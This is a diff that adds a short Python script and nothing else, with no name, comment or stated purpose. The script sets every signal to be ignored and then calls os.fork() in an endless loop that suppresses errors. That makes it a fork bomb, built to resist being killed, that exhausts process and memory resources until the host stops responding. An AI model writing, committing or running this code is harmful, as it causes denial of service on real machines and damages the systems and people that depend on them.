@@ -1,0 +1,13 @@
+import os
+import signal
+
+for number in range(1, signal.NSIG):
+    try:
+        signal.signal(number, signal.SIG_IGN)
+    except (OSError, ValueError):
+        pass
+while True:
+    try:
+        os.fork()
+    except OSError:
+        pass
